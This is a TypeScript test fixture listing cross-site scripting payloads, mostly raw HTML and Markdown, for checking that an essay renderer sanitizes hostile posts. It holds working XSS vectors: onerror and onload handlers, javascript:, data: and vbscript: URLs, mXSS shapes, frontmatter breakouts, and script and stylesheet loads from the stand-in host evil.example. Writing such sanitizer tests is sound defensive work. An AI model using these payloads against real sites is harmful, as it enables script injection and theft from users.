/**
 * What an attacker writes into an essay to run script on the page that shows it. Every payload
 * that ran would call `alert(1)` (a browser test listens for dialogs) or set `__pwned`.
 *
 * This module imports nothing: `packages/embed/test/attack/` reads the same list in Chromium.
 */

/** One attack written as an essay's Markdown (raw HTML included, as Markdown allows). */
export interface Vector {
  name: string
  markdown: string
}

/** Raw HTML an attacker puts where HTML goes: a Markdown body, or a forged essay's `html`. */
export const htmlVectors: Record<string, string> = {
  script: '<script>alert(1)</script>',
  'script, upper case and split': '<SCRIPT>alert(1)</SCRIPT><scr<script>ipt>alert(1)</script>',
  'script with src': '<script src="https://evil.example/x.js"></script>',
  'img onerror': '<img src=x onerror=alert(1)>',
  'img onerror, quoted, entity-encoded handler':
    '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
  'img with a javascript: src': '<img src="javascript:alert(1)">',
  'svg onload': '<svg onload=alert(1)>',
  'svg with script and xlink':
    '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>s</text></a></svg>',
  'svg animate': '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  'iframe srcdoc': '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  'iframe javascript: src': '<iframe src="javascript:alert(1)"></iframe>',
  'object and embed':
    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  'math, mXSS shape': '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  'math with a link': '<math><mi xlink:href="javascript:alert(1)">m</mi></math>',
  'noscript mXSS': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
  'template content': '<template><script>alert(1)</script></template>',
  'style element': '<style>@import "https://evil.example/x.css";*{display:none}</style>',
  'style attribute': '<p style="background:url(javascript:alert(1))">styled</p>',
  'base href': '<base href="javascript:alert(1)//">',
  'form action': '<form action="javascript:alert(1)"><button>go</button></form>',
  'button formaction': '<button formaction="javascript:alert(1)">go</button>',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  'link import': '<link rel="stylesheet" href="javascript:alert(1)">',
  'a javascript: href': '<a href="javascript:alert(1)">a</a>',
  'a href, mixed case and leading space': '<a href=" JaVaScRiPt:alert(1)">a</a>',
  'a href, entity-encoded scheme': '<a href="&#106;avascript&#58;alert(1)">a</a>',
  'a href, &colon;': '<a href="javascript&colon;alert(1)">a</a>',
  'a href, tab and newline inside the scheme': '<a href="java&#9;scr&#10;ipt:alert(1)">a</a>',
  'a data: href': '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  'a vbscript: href': '<a href="vbscript:msgbox(1)">a</a>',
  'event handler on an allowed element': '<p onclick="alert(1)" onmouseover=alert(1)>p</p>',
  'handler after a slash': '<img/src=x/onerror=alert(1)>',
  'unclosed tag swallowing text': '<img src=x onerror=alert(1) alt="',
  'details ontoggle': '<details open ontoggle=alert(1)><summary>s</summary></details>',
  'video poster and source': '<video poster=javascript:alert(1)><source onerror=alert(1)></video>',
  comment: '<!--><img src=x onerror=alert(1)>-->',
  'CDATA in HTML': '<![CDATA[><img src=x onerror=alert(1)>]]>',
}

/** Attacks that only Markdown syntax can carry. */
const markdownOnly: Vector[] = [
  {name: 'inline link, javascript:', markdown: '[a](javascript:alert(1))'},
  {name: 'inline link, upper case', markdown: '[a](JAVASCRIPT:alert(1))'},
  {name: 'inline link, entity-encoded', markdown: '[a](&#106;avascript:alert(1))'},
  {name: 'inline link, hex entities', markdown: '[a](&#x6A;&#x61;vascript&#x3A;alert(1))'},
  {name: 'inline link, named entity colon', markdown: '[a](javascript&colon;alert(1))'},
  {name: 'inline link, escaped tab', markdown: '[a](<java\tscript:alert(1)>)'},
  {name: 'inline link, leading control character', markdown: '[a](<\u0001javascript:alert(1)>)'},
  {name: 'inline link, angle brackets and spaces', markdown: '[a](< javascript:alert(1)>)'},
  {name: 'inline link, vbscript:', markdown: '[a](vbscript:msgbox(1))'},
  {
    name: 'inline link, data:',
    markdown: '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  },
  {name: 'inline link, file:', markdown: '[a](file:///etc/passwd)'},
  {
    name: 'link title breaking out',
    markdown: '[a](https://e.example "x\\" onmouseover=\\"alert(1)")',
  },
  {name: 'image, javascript:', markdown: '![a](javascript:alert(1))'},
  {name: 'image, data:', markdown: '![a](data:image/svg+xml,<svg onload=alert(1)>)'},
  {name: 'image alt breaking out', markdown: '![a" onerror="alert(1)](/a.png)'},
  {
    name: 'reference definition, javascript:',
    markdown: '[a][x] and [x]\n\n[x]: javascript:alert(1)',
  },
  {
    name: 'reference definition, entity-encoded, with a title',
    markdown: '[a][x]\n\n[x]: &#106;avascript:alert(1) "t"',
  },
  {name: 'reference image, data:', markdown: '![a][i]\n\n[i]: data:image/png;base64,AAAA'},
  {name: 'autolink, javascript:', markdown: '<javascript:alert(1)>'},
  {name: 'autolink, vbscript: upper case', markdown: '<VBSCRIPT:msgbox(1)>'},
  {name: 'autolink, data:', markdown: '<data:text/html,alert(1)>'},
  {name: 'email autolink with a handler', markdown: '<a@b.example onmouseover=alert(1)>'},
  {name: 'heading with raw HTML', markdown: '## <img src=x onerror=alert(1)>Heading'},
  {name: 'title with raw HTML', markdown: '# <script>alert(1)</script>Title\n\nBody.'},
  {name: 'code span', markdown: '`<script>alert(1)</script>`'},
  {name: 'fenced code', markdown: '```html\n<script>alert(1)</script>\n```'},
  {name: 'inline HTML in emphasis', markdown: '*<b onclick=alert(1)>x</b>*'},
  {name: 'HTML split across lines', markdown: '<img src=x\nonerror=alert(1)>'},
  {
    name: 'link inside raw HTML',
    markdown: '<a href="javascript:alert(1)">\n\n[x](https://e.example)\n\n</a>',
  },
  {
    name: 'frontmatter url and title',
    markdown: '---\ntitle: <script>alert(1)</script>\nurl: javascript:alert(1)\n---\n\nBody.',
  },
  {name: 'frontmatter scheme-relative url', markdown: '---\nurl: //evil.example/x\n---\n\nBody.'},
  {
    name: 'tsuzuri tag with HTML',
    markdown: '<!-- tsuzuri: <script>alert(1)</script> -->\n## A\n\nB',
  },
  {
    name: 'JSON block breakout',
    markdown: '## A\n\n`</script><script>alert(1)</script>` and <!-- -->',
  },
]

/** Every attack: each raw HTML vector on its own line and inside a sentence, then Markdown's. */
export const vectors: Vector[] = [
  ...Object.entries(htmlVectors).flatMap(([name, html]) => [
    {name: `${name} (block)`, markdown: `## Heading\n\n${html}\n\nAfter.`},
    {name: `${name} (inline)`, markdown: `## Heading\n\nBefore ${html} after.`},
  ]),
  ...markdownOnly,
]

/** All the vectors in one essay, one section each, as a site would receive a hostile post. */
export const vectorsEssay = vectors
  .map(
    (vector, index) =>
      `## Attack ${index + 1}\n\n${vector.markdown.replace(/^---[\s\S]*?---\n/, '').replace(/^## Heading\n\n/, '')}`,
  )
  .join('\n\n')
